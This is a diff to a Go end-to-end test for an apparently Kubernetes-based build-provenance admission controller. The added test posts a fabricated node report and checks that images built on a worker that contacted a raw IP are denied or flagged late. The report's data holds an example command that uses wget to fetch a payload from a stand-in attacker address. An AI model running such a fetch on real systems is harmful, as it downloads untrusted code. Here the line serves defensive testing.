@@ -3,13 +3,20 @@ package e2e
 import (
 	"bufio"
 	"context"
+	"crypto/tls"
+	"crypto/x509"
+	"encoding/base64"
 	"encoding/json"
 	"fmt"
+	"io"
+	"net/http"
 	"os"
 	"path/filepath"
 	"strings"
 	"testing"
 	"time"
+
+	v1 "github.com/google/go-containerregistry/pkg/v1"
 
 	"buildguard.dev/buildguard/internal/testregistry"
 )
@@ -144,7 +151,7 @@ func TestEndToEnd(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	bg, err := StartBuildguard(ctx, bin, dir, cp, reg.CAFile)
+	bg, err := StartBuildguard(ctx, bin, dir, cp, reg.CAFile, "--store-sqlite="+filepath.Join(dir, "evidence.db"))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -351,6 +358,77 @@ spec:
 			}
 			return nil
 		})
+	})
+
+	t.Run("node reports: a build on a worker that talked to a raw IP is denied, and found late", func(t *testing.T) {
+		e.mustKubectl("", "create", "serviceaccount", "buildguard-node-agent", "-n", "buildguard-system")
+		token := strings.TrimSpace(e.mustKubectl("", "create", "token", "buildguard-node-agent", "-n", "buildguard-system", "--audience=buildguard"))
+		caB64 := e.mustKubectl("", "get", "validatingwebhookconfiguration", "buildguard", "-o", "jsonpath={.webhooks[0].clientConfig.caBundle}")
+		ca, err := base64.StdEncoding.DecodeString(caB64)
+		if err != nil {
+			t.Fatal(err)
+		}
+		pool := x509.NewCertPool()
+		pool.AppendCertsFromPEM(ca)
+		client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{RootCAs: pool}}}
+		report := func(cfg v1.Hash, node string) {
+			t.Helper()
+			built := time.Now().Add(-time.Hour).UTC()
+			body := fmt.Sprintf(`{"apiVersion":"buildguard.dev/v1alpha1","kind":"NodeReport","node":%q,"sensor":"ebpf",
+"builds":[{"eventID":"build-%s","tool":"docker","imageID":%q,"started":%q,"finished":%q}],
+"connections":[{"eventID":"conn-%s","time":%q,"process":"wget","pid":4242,"cmdline":"wget -q http://203.0.113.9:8080/payload","destIP":"203.0.113.9","destPort":8080}]}`,
+				node, cfg.Hex[:12], cfg.String(), built.Format(time.RFC3339), built.Add(time.Minute).Format(time.RFC3339), cfg.Hex[:12], built.Add(20*time.Second).Format(time.RFC3339))
+			req, _ := http.NewRequestWithContext(ctx, http.MethodPost, strings.TrimSuffix(bg.URL, "/validate")+"/v1/node-reports", strings.NewReader(body))
+			req.Header.Set("Authorization", "Bearer "+token)
+			resp, err := client.Do(req)
+			if err != nil {
+				t.Fatal(err)
+			}
+			b, _ := io.ReadAll(resp.Body)
+			resp.Body.Close()
+			if resp.StatusCode != http.StatusOK || !strings.Contains(string(b), `"builds":1`) {
+				t.Fatalf("POST /v1/node-reports = %d %s", resp.StatusCode, b)
+			}
+		}
+		push := func(repo string) v1.Hash {
+			img, err := testregistry.MakeImage(testregistry.Image{Created: time.Now().Add(-48 * time.Hour)})
+			if err != nil {
+				t.Fatal(err)
+			}
+			if _, err := reg.Push(repo, img); err != nil {
+				t.Fatal(err)
+			}
+			cfg, err := img.ConfigName()
+			if err != nil {
+				t.Fatal(err)
+			}
+			return cfg
+		}
+
+		// Admitted first, reported afterwards: detection goes on.
+		late := push("e2e/late:1")
+		e.mustKubectl("", "create", "deployment", "late", "-n", "shop", "--image="+reg.Host+"/e2e/late:1")
+		report(late, "worker-3")
+		e.eventually(60*time.Second, "a late-evidence Event on the Deployment", func() error {
+			out, err := e.kubectl("", "get", "events", "-n", "shop", "--field-selector=involvedObject.name=late,reason=BuildguardLateEvidence", "-o", "jsonpath={.items[*].message}")
+			if err != nil || !strings.Contains(out, "untrusted-egress") {
+				return fmt.Errorf("events %q (%v)", out, err)
+			}
+			return nil
+		})
+
+		// Reported first: admission is denied, with the evidence.
+		built := push("e2e/nodebuilt:1")
+		report(built, "worker-3")
+		out, err := e.kubectl("", "create", "deployment", "nodebuilt", "-n", "shop", "--image="+reg.Host+"/e2e/nodebuilt:1")
+		if err == nil {
+			t.Fatalf("admitted: %s", out)
+		}
+		for _, want := range []string{"[host-built] node worker-3 built this image", "[untrusted-egress]", "wget (pid 4242)", "203.0.113.9:8080"} {
+			if !strings.Contains(out, want) {
+				t.Errorf("denial %q does not contain %q", out, want)
+			}
+		}
 	})
 
 	t.Run("buildguard unreachable: failurePolicy Fail applies, kube-system unaffected", func(t *testing.T) {
